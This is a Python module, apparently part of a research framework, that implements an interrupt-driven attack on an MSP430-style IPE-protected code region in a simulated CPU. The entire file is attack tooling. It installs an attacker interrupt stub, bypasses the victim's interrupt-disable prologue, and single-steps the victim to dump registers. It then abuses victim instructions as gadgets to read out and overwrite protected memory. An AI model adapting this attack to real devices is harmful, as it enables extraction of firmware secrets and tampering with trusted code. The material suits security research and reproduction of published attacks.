"""Untrusted-side attack driver.

Everything here runs as code outside the IPE region: an interrupt handler
in SRAM that snapshots registers, a launcher that enters the victim past
its interrupt-disable prologue, and the measurement loops built on top of
them (single-stepping, probing and controlled reads and writes).
"""

from __future__ import annotations

import hashlib
import struct
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterable, Optional, Sequence, Union

import numpy as np

from .asm import FirmwareImage, assemble
from .cpu import MachineState, run_until, step, timer_arm
from .firmware import STACK_TOP, load
from .isa import C_BIT, GIE, N_BIT, PC, SP, SR, V_BIT, Z_BIT, Mode, Width
from .memory import Memory, MemoryFault
from .peripherals import DEFAULT_INTERRUPT_LATENCY, VECTORS

STUB_BASE = 0x1C00
SAVE_AREA = 0x1D00                 # 16 slots of 4 bytes, r0..r15
SCRATCH = (0x2000, 0x3000)         # attacker-owned probe memory

RECORD_SYNC = b"\xA5\x5A"
RECORD = struct.Struct("<2sI16IH")
RECORD_SIZE = RECORD.size          # 72 bytes on the wire

FLAG_MPU_VIOLATION = 0x0001
FLAG_TERMINATED = 0x0002
FLAG_HALTED = 0x0004

# A freshly written image used as the attacker's interrupt handler. Saves
# every register with 20-bit stores, then copies the stacked SR and PC.
STUB_SOURCE = """
        .org    0x%(base)04X
isr:
        MOVA    R1, &0x%(sp)04X
""" % {"base": STUB_BASE, "sp": SAVE_AREA + 4} + "".join(
    "        MOVA    R%d, &0x%04X\n" % (r, SAVE_AREA + 4 * r) for r in range(3, 16)) + """
        MOV     @SP, &0x%(sr)04X
        MOV     2(SP), &0x%(pc)04X
isr_done:
        JMP     isr_done
ret_site:
        EINT
spin:
        JMP     spin
        .vector timer, isr
""" % {"sr": SAVE_AREA + 8, "pc": SAVE_AREA}


class AttackError(Exception):
    """A phase could not run to completion against the victim."""


@dataclass(frozen=True)
class RegisterDump:
    timer_count: int
    regs: tuple                # 16 values, r0 = PC, r1 = SP, r2 = SR
    flags: int = 0

    @property
    def pc(self) -> int:
        return self.regs[PC]

    @property
    def sp(self) -> int:
        return self.regs[SP]

    @property
    def sr(self) -> int:
        return self.regs[SR]

    def to_record(self) -> bytes:
        return RECORD.pack(RECORD_SYNC, self.timer_count, *self.regs, self.flags)

    @classmethod
    def from_record(cls, raw: bytes) -> "RegisterDump":
        sync, count, *rest = RECORD.unpack(raw)
        if sync != RECORD_SYNC:
            raise ValueError("bad record sync %r" % sync)
        return cls(count, tuple(rest[:16]), rest[16])


def parse_records(stream: bytes) -> list:
    if len(stream) % RECORD_SIZE:
        raise ValueError("stream length is not a multiple of the record size")
    return [RegisterDump.from_record(stream[i:i + RECORD_SIZE])
            for i in range(0, len(stream), RECORD_SIZE)]


@dataclass
class AttackConfig:
    victim_entry: int
    dint_bypass: Optional[int] = None
    desired_dumps: int = 0                 # 0 means until the victim returns
    timer_latency: int = DEFAULT_INTERRUPT_LATENCY
    stack_top: int = STACK_TOP
    seed: int = 0
    initial_regs: Optional[tuple] = None   # r4..r15; seeded if None
    step_budget: int = 200_000

    def launch_regs(self) -> tuple:
        if self.initial_regs is not None:
            return tuple(self.initial_regs)
        rng = np.random.default_rng(self.seed)
        return tuple(int(v) for v in rng.integers(0, 0x10000, 12))


@dataclass
class TraceDB:
    """Phase-1 output: the launch register state plus one dump per timer count."""

    initial: tuple
    dumps: list = field(default_factory=list)
    ipe: tuple = (0, 0)
    entry: int = 0
    image_id: str = ""
    latency: int = DEFAULT_INTERRUPT_LATENCY
    uart_bytes: int = 0

    def add(self, dump: RegisterDump) -> None:
        if self.dumps and dump.timer_count != self.dumps[-1].timer_count + 1:
            raise ValueError("timer counts must increase by one")
        self.dumps.append(dump)

    def __len__(self) -> int:
        return len(self.dumps)

    def save(self, path: Union[str, Path]) -> None:
        lines = [
            "# register trace, one dump per line",
            "# fields: timer_count r0..r15 flags (hex)",
            "# assumptions: push order PC then SR; interrupt latency %d cycles;"
            " attacker transit cycles excluded from timer_count" % self.latency,
            "# image %s" % self.image_id,
            "# ipe %04X %04X entry %04X" % (self.ipe[0], self.ipe[1], self.entry),
            "# launch " + " ".join("%05X" % r for r in self.initial),
        ]
        for d in self.dumps:
            lines.append("%d %s %04X" % (d.timer_count, " ".join("%05X" % r for r in d.regs),
                                         d.flags))
        Path(path).write_text("\n".join(lines) + "\n")

    @classmethod
    def load(cls, path: Union[str, Path]) -> "TraceDB":
        db = cls(initial=tuple([0] * 16))
        for line in Path(path).read_text().splitlines():
            if not line.strip():
                continue
            if line.startswith("#"):
                words = line[1:].split()
                if words[:1] == ["launch"]:
                    db.initial = tuple(int(w, 16) for w in words[1:])
                elif words[:1] == ["image"]:
                    db.image_id = words[1] if len(words) > 1 else ""
                elif words[:1] == ["ipe"]:
                    db.ipe = (int(words[1], 16), int(words[2], 16))
                    db.entry = int(words[4], 16)
                elif "latency" in words:
                    db.latency = int(words[words.index("latency") + 1])
                continue
            f = line.split()
            db.dumps.append(RegisterDump(int(f[0]), tuple(int(w, 16) for w in f[1:17]),
                                         int(f[17], 16)))
        return db


def image_id(image: FirmwareImage) -> str:
    h = hashlib.sha256()
    for base, payload in image.segments:
        h.update(base.to_bytes(4, "little"))
        h.update(payload)
    return h.hexdigest()[:16]


# ---------------------------------------------------------------------------
# the attacker's machine

class Attacker:
    """A machine with the victim image loaded and the snapshot handler installed."""

    def __init__(self, image: FirmwareImage, latency: int = DEFAULT_INTERRUPT_LATENCY,
                 stack_top: int = STACK_TOP):
        if image.ipe is None:
            raise AttackError("image declares no IPE region")
        self.image = image
        self.stub = assemble(STUB_SOURCE)
        self.isr_done = self.stub.symbols["isr_done"]
        self.ret_site = self.stub.symbols["ret_site"]
        self.stack_top = stack_top
        self.state = MachineState(Memory(), latency=latency)
        load(image, self.state, stack_top)
        for base, payload in self.stub.segments:
            self.state.memory.raw_write(base, payload)
        for name, target in self.stub.vectors.items():
            self.state.memory.raw_write(VECTORS[name], target.to_bytes(2, "little"))

    @property
    def ipe(self):
        return self.image.ipe

    def _poke(self, addr: int, payload: bytes) -> None:
        # attacker stores go through the MPU like any untrusted write
        mem = self.state.memory
        for i, b in enumerate(payload):
            mem.write(addr + i, b, STUB_BASE, 1)

    def _prepare(self, pc: int, regs: Sequence[int], sp: int, sr: int,
                 push_return: bool) -> None:
        st = self.state
        st.halted = False
        st.pending_irq = None
        st.timer.stop()
        st.memory.raw_write(SAVE_AREA, bytes(64))
        st.regs[4:16] = [r & 0xFFFFF for r in regs]
        st.regs[3] = 0
        st.sp = sp
        if push_return:
            st.sp = st.regs[SP] - 2
            self._poke(st.regs[SP], self.ret_site.to_bytes(2, "little"))
        st.sr = sr | GIE
        st.pc = pc

    def _fire(self, compare: int, budget: int) -> tuple:
        """Arm the timer, run to the end of the handler and read the snapshot."""
        st = self.state
        timer_arm(st, compare)
        start, denials = st.cycles, len(st.memory.denials)
        done = self.isr_done
        try:
            run_until(st, lambda s, e: s.regs[PC] == done, budget)
        except RuntimeError as exc:
            raise AttackError(str(exc)) from None
        data = st.memory.data
        regs = [int.from_bytes(data[SAVE_AREA + 4 * r:SAVE_AREA + 4 * r + 4], "little") & 0xFFFFF
                for r in range(16)]
        regs[PC] &= 0xFFFF
        regs[SR] &= 0xFFFF
        regs[SP] = (regs[SP] + 4) & 0xFFFFF    # undo the two interrupt pushes
        flags = FLAG_MPU_VIOLATION if len(st.memory.denials) != denials else 0
        return tuple(regs), flags, st.cycles - start

    def launch(self, cfg: AttackConfig, compare: int) -> RegisterDump:
        """Enter the victim at its bypass point and snapshot after ``compare`` cycles."""
        self._prepare(cfg.dint_bypass, cfg.launch_regs(), cfg.stack_top, 0, True)
        regs, flags, _ = self._fire(compare, cfg.step_budget + compare)
        if not self.ipe.contains(regs[PC]):
            flags |= FLAG_TERMINATED
        return RegisterDump(compare, regs, flags)

    def launch_state(self, cfg: AttackConfig) -> tuple:
        regs = [0] * 16
        regs[PC] = cfg.dint_bypass
        regs[SP] = cfg.stack_top - 2
        regs[SR] = GIE
        regs[4:16] = cfg.launch_regs()
        return tuple(regs)


def find_dint_bypass(att: Attacker, entry: int, max_skip: int = 8) -> int:
    """Smallest word offset from ``entry`` at which a one-cycle timer still
    interrupts inside the protected region (i.e. past any DINT/NOP pair)."""
    for k in range(0, 2 * max_skip, 2):
        cand = entry + k
        att._prepare(cand, [0] * 12, att.stack_top, 0, True)
        try:
            regs, _, _ = att._fire(1, 1000)
        except AttackError:
            continue
        if att.ipe.contains(regs[PC]) and regs[PC] != cand:
            return cand
    raise AttackError("no entry point keeps interrupts enabled")


def phase1_collect(image: FirmwareImage, cfg: AttackConfig,
                   attacker: Optional[Attacker] = None,
                   on_dump: Optional[Callable[[RegisterDump], None]] = None) -> TraceDB:
    """Interrupt the victim after 1, 2, 3, ... cycles, restarting it each time."""
    att = attacker or Attacker(image, cfg.timer_latency, cfg.stack_top)
    if cfg.dint_bypass is None:
        cfg.dint_bypass = find_dint_bypass(att, cfg.victim_entry)
    db = TraceDB(initial=att.launch_state(cfg), ipe=(image.ipe.start, image.ipe.end),
                 entry=cfg.dint_bypass, image_id=image_id(image), latency=cfg.timer_latency)
    uart = att.state.uart
    k = 1
    while True:
        d = att.launch(cfg, k)
        if k == 1 and d.flags & FLAG_TERMINATED:
            raise AttackError("victim never reached at 0x%04X" % cfg.dint_bypass)
        uart.send(d.to_record())
        db.add(d)
        if d.flags & FLAG_TERMINATED or (cfg.desired_dumps and k >= cfg.desired_dumps):
            break
        k += 1
    db.uart_bytes = len(uart.data)
    return db


def single_step_oracle(image: FirmwareImage, cfg: AttackConfig,
                       max_steps: int = 1_000_000) -> list:
    """Reference boundaries from an uninterrupted run: ``(cumulative_cycles, regs)``
    after each retired victim instruction, until control leaves the region."""
    att = Attacker(image, cfg.timer_latency, cfg.stack_top)
    if cfg.dint_bypass is None:
        cfg.dint_bypass = find_dint_bypass(att, cfg.victim_entry)
    att._prepare(cfg.dint_bypass, cfg.launch_regs(), cfg.stack_top, 0, True)
    st = att.state
    out = []
    start = st.cycles
    for _ in range(max_steps):
        step(st)
        regs = list(st.regs)
        out.append((st.cycles - start, tuple(regs)))
        if not image.ipe.contains(st.regs[PC]):
            return out
    raise AttackError("victim did not return")


def golden_dump(boundaries: list, k: int) -> Optional[tuple]:
    """Oracle register state for timer count ``k``."""
    for cyc, regs in boundaries:
        if cyc >= k:
            return regs
    return None


# ---------------------------------------------------------------------------
# probing single instructions with attacker-chosen memory

PROBE_FLAGS = (0, C_BIT | Z_BIT | N_BIT | V_BIT, N_BIT, Z_BIT)
PROBE_SENTINELS = (0x0000, 0xFFFF, 0xFE00, 0xA5A5)


_PROBE_SLOTS = (
    (0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11),
    (7, 3, 10, 0, 5, 11, 2, 8, 4, 1, 9, 6),
    (11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1, 0),
    (4, 8, 1, 6, 11, 2, 9, 0, 7, 3, 10, 5),
)


def probe_layout(k: int) -> tuple:
    """Register file for probe ``k``: r4..r15 point into scratch with a
    different relative order per probe, plus a scratch stack pointer.

    Slots are 0x10E apart so no two registers share a low byte; odd bases on
    alternate probes separate x from x+1 in word accesses.
    """
    base = SCRATCH[0] + 0x100 + 0x22 * k + (k % 2)
    regs = tuple(base + 0x10E * slot for slot in _PROBE_SLOTS[k])
    sp = SCRATCH[0] + 0xE80 + 0x10 * k
    return regs, sp


def probe_pattern(k: int) -> bytes:
    """Scratch contents for probe ``k``: distinct word values per address.
    Probes 4..7 complement the pattern of probes 0..3."""
    a = np.arange(SCRATCH[0], SCRATCH[1], 2, dtype=np.uint32)
    words = ((a * 0x9E37 + 0x3B1) ^ PROBE_SENTINELS[k % 4] ^ (0xFFFF if k >= 4 else 0)) & 0xFFFF
    return words.astype("<u2").tobytes()


@dataclass(frozen=True)
class ProbeResult:
    probe: int
    pre: tuple                  # r0..r15 before
    post: tuple                 # r0..r15 at the snapshot
    scratch_before: bytes
    scratch_after: bytes
    fault: Optional[str] = None


def probe_indirect(att: Attacker, addr: int, cycles: int, probes: Iterable[int] = range(4)) -> list:
    """Run the instruction at ``addr`` once per probe configuration."""
    out = []
    st = att.state
    for k in probes:
        regs, sp = probe_layout(k % 4)
        pattern = probe_pattern(k)
        st.memory.raw_write(SCRATCH[0], pattern)
        att._prepare(addr, regs, sp, PROBE_FLAGS[k % 4], False)
        pre = tuple(st.regs)
        try:
            post, _, _ = att._fire(cycles, 10_000)
            after = bytes(st.memory.data[SCRATCH[0]:SCRATCH[1]])
            out.append(ProbeResult(k, pre, post, pattern, after))
        except (AttackError, MemoryFault) as exc:
            out.append(ProbeResult(k, pre, pre, pattern, pattern, fault=str(exc)))
    return out


def probe_values(att: Attacker, addr: int, cycles: int, count: int = 8, seed: int = 0) -> list:
    """Run ``addr`` with random register values and flags.

    Only safe for instructions already known to touch no memory: r4..r15
    are arbitrary, so they are not valid pointers. SP stays in scratch
    because the interrupt pushes through it.
    """
    rng = np.random.default_rng(seed)
    st = att.state
    pattern = probe_pattern(0)
    _, sp = probe_layout(0)
    out = []
    for k in range(count):
        regs = tuple(int(v) for v in rng.integers(0, 0x10000, 12))
        flags = int(rng.integers(0, 16))
        sr = (flags & 7) | (V_BIT if flags & 8 else 0)
        st.memory.raw_write(SCRATCH[0], pattern)
        att._prepare(addr, regs, sp, sr, False)
        pre = tuple(st.regs)
        try:
            post, _, _ = att._fire(cycles, 10_000)
            after = bytes(st.memory.data[SCRATCH[0]:SCRATCH[1]])
            out.append(ProbeResult(len(PROBE_FLAGS) + k, pre, post, pattern, after))
        except (AttackError, MemoryFault) as exc:
            out.append(ProbeResult(len(PROBE_FLAGS) + k, pre, pre, pattern, pattern, fault=str(exc)))
    return out


# ---------------------------------------------------------------------------
# phase 3: reading and writing protected memory through gadgets

@dataclass(frozen=True)
class GadgetDescriptor:
    """A victim instruction usable as a load or store primitive.

    For a read gadget ``src_reg`` holds the pointer and ``dst_reg`` receives
    the value; for a write gadget ``src_reg`` holds the value and
    ``dst_reg`` the pointer.
    """

    addr: int
    src_mode: Mode
    src_reg: int
    dst_reg: int
    offset: int
    cycles: int
    width: Width = Width.WORD

    @property
    def operand_size(self) -> int:
        return self.width.nbytes


def _calibration_base(att: Attacker) -> int:
    return SCRATCH[0] + 0x40


def phase3_exfiltrate(att: Attacker, gadget: GadgetDescriptor, start: int, end: int,
                      cfg: Optional[AttackConfig] = None, calibrate: bool = True) -> bytes:
    """Read ``[start, end)`` one gadget execution at a time."""
    cfg = cfg or AttackConfig(att.image.entry)
    step = gadget.operand_size
    if calibrate:
        probe = _calibration_base(att)
        expect = bytes(range(0x41, 0x41 + 2 * step))
        att._poke(probe, expect)
        got = _read_once(att, gadget, probe, cfg) + _read_once(att, gadget, probe + step, cfg)
        if got != expect:
            raise AttackError("gadget at 0x%04X failed calibration" % gadget.addr)
    out = bytearray()
    addr = start - (start % step)
    while addr < end:
        out += _read_once(att, gadget, addr, cfg)
        addr += step
    skip = start % step
    return bytes(out[skip:skip + end - start])


def _read_once(att: Attacker, g: GadgetDescriptor, addr: int, cfg: AttackConfig) -> bytes:
    regs = list(cfg.launch_regs())
    regs[g.src_reg - 4] = (addr - g.offset) & 0xFFFF
    att._prepare(g.addr, regs, cfg.stack_top, 0, False)
    post, _, _ = att._fire(g.cycles, 10_000)
    return (post[g.dst_reg] & g.width.mask).to_bytes(g.operand_size, "little")


def write_exploit(att: Attacker, gadget: GadgetDescriptor, addr: int, payload: bytes,
                  cfg: Optional[AttackConfig] = None) -> None:
    """Store ``payload`` at ``addr`` through a ``MOV Rn, x(Rm)`` gadget."""
    cfg = cfg or AttackConfig(att.image.entry)
    n = gadget.operand_size
    if addr % n or len(payload) % n:
        raise AttackError("payload must be aligned to the gadget width")
    for i in range(0, len(payload), n):
        regs = list(cfg.launch_regs())
        regs[gadget.src_reg - 4] = int.from_bytes(payload[i:i + n], "little")
        regs[gadget.dst_reg - 4] = (addr + i - gadget.offset) & 0xFFFF
        att._prepare(gadget.addr, regs, cfg.stack_top, 0, False)
        att._fire(gadget.cycles, 10_000)
